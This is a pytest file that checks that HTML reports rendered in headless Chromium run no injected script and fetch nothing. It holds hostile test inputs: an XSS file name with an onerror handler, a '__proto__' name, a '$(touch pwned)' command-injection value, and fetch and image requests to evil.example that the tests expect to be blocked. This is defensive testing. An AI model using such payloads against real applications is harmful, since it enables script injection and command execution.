"""Pages of hostile records in a headless Chromium: nothing of them runs, loads, or leads away."""

from __future__ import annotations

import json
import shlex
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from nnasim.ir.io import read_result, read_shared, write_record
from nnasim.studies.explaining.sources import explain_record
from reports.set_line import set_line
from tests.attack import attack
from tests.hostile import TEXTS, poisoned
from tests.reports.chromium import Chromium, program
from tests.reports.pages import simulated, streamed, trace, write_page_of

in_a_browser = pytest.mark.skipif(program() is None, reason="no Chromium is installed: apt-get install chromium")
READ: dict[str, Callable[[Path], object]] = {"explained": read_result, "shared": read_shared}
LED_AWAY = (
    "[...document.querySelectorAll('[href],[src],[action],[data]:not(figure)')].filter((element) => "
    "!['href', 'src', 'action', 'data'].every((name) => /^(#|data:|$)/.test(element.getAttribute(name) ?? ''))).length"
)


@pytest.fixture(scope="module")
def browser() -> Iterator[Chromium]:
    with Chromium() as chromium:
        yield chromium


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile-pages")
    write_record(folder / "explained.json", explain_record(simulated(4e9), trace()))
    write_record(folder / "shared.json", streamed(4e9))
    return folder


def refuse_influence(browser: Chromium, page: Path) -> None:
    """Assert that nothing but the page's own scripts has run, that all charts are drawn, and nothing was asked for."""
    browser.look()
    browser.open(page)
    assert browser.run("typeof pwned") == "undefined"
    assert browser.run("({}).image ?? ({}).pwned ?? null") is None
    assert browser.run("Object.keys(Object.prototype).length") == 0
    assert (
        browser.run("document.querySelectorAll('img,iframe,object,embed,base,link,form[action],svg script').length")
        == 0
    )
    assert browser.run(LED_AWAY) == 0
    scripts = (
        "[...document.scripts].filter(({type, id}) => type !== 'application/json' && !SCRIPTS.includes(id)).length"
    )
    ours = json.dumps(["vega-lite", "datatables", "page", "save"])
    assert browser.run(scripts.replace("SCRIPTS", ours)) == 0
    assert browser.run("[...document.querySelectorAll('script[type]')].every((one) => JSON.parse(one.textContent))")
    figures = "[...document.querySelectorAll('figure')].filter((figure) => figure.checkVisibility()"
    charts = "island('charts').charts.some((chart) => chart.figure === figure.dataset.name)"
    assert browser.run(f"{figures} && {charts} && !figure.classList.contains('alive')).length") == 0
    assert browser.complaints() == []


@in_a_browser
@pytest.mark.parametrize("first", [0, 15])
@pytest.mark.parametrize("name", READ)
def test_nothing_of_a_hostile_record_runs_or_leads_away(browser: Chromium, folder: Path, name: str, first: int) -> None:
    assert poisoned(folder / f"{name}.json", folder / "hostile.json", READ[name], first) > 10
    ending = attack("report", folder / "hostile.json", "--out", folder / "hostile.html", "--force")
    assert ending.code == 0, ending
    refuse_influence(browser, folder / "hostile.html")


@in_a_browser
@pytest.mark.parametrize("name", ["'\"><img src=x onerror=pwned=1>", "__proto__", "$(touch pwned);'`", "a\nb"])
def test_file_names_of_chips_and_traces_are_text_on_pages_of_sweeps(
    browser: Chromium, tmp_path: Path, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    Path(f"{name}.yaml").write_text("extends: edge256\nhost: {handoff_us: 40}\n")
    write_record(Path(f"{name}.json"), trace())
    sweep = {"base": f"./{name}.yaml", "traces": [f"{name}.json"], "sampler": "grid",
             "axes": {"sram.bytes": {"list": [262144, 1048576]}}, "objectives": ["rtf", "energy_mj"]}  # fmt: skip
    Path("sweep.json.yaml").write_text(json.dumps(sweep))
    assert attack("sweep", "sweep.json.yaml", "--store", "store.sqlite", "--jobs", 1, "--quiet").code == 0
    assert attack("sweep-report", "store.sqlite", "--out", "page.html").code == 0
    refuse_influence(browser, tmp_path / "page.html")
    assert not Path("pwned").exists()


@in_a_browser
def test_the_policy_holds_against_a_script_that_would_come_in(browser: Chromium, tmp_path: Path) -> None:
    """As if one of our own escapes failed: nothing inline runs, and nothing can be fetched, sent or framed."""
    browser.look()
    browser.open(write_page_of("report", tmp_path))
    browser.run("""{
      const script = document.createElement('script');
      script.textContent = 'window.pwned = 1';
      document.body.append(script);
      document.body.insertAdjacentHTML('beforeend',
        '<p id=handler onclick="window.pwned = 1">x</p><iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>');
      document.getElementById('handler').click();
    }""")
    assert browser.run("typeof pwned") == "undefined"
    assert browser.run("fetch('https://evil.example/').then(() => 'sent', () => 'blocked')") == "blocked"
    loading = (
        "new Promise((end) => { const image = new Image(); image.onload = () => end('loaded');"
        " image.onerror = () => end('blocked'); image.src = 'https://evil.example/x.png'; })"
    )
    assert browser.run(loading) == "blocked"
    assert "unsafe-eval" not in browser.run("document.querySelector('meta[http-equiv]').content")
    told = [(event["method"], event["params"]) for event in browser.events]
    asked = {
        what["requestId"]
        for method, what in told
        if method == "Network.requestWillBeSent" and what["request"]["url"].startswith("https:")
    }
    stopped = {
        what["requestId"]
        for method, what in told
        if method == "Network.loadingFailed" and what.get("blockedReason") == "csp"
    }
    assert asked <= stopped


@pytest.mark.parametrize("text", TEXTS)
def test_a_line_to_copy_is_words_to_a_shell_and_nothing_else(text: str) -> None:
    line = set_line({f"dram.{text}": 2.5, "mac_array.kind": text})
    words = shlex.split(line)
    assert words[::2] == ["--set", "--set"]
    assert words[1] == f"dram.{text}=2.5"
    assert words[3] == f"mac_array.kind={json.dumps(text)}"
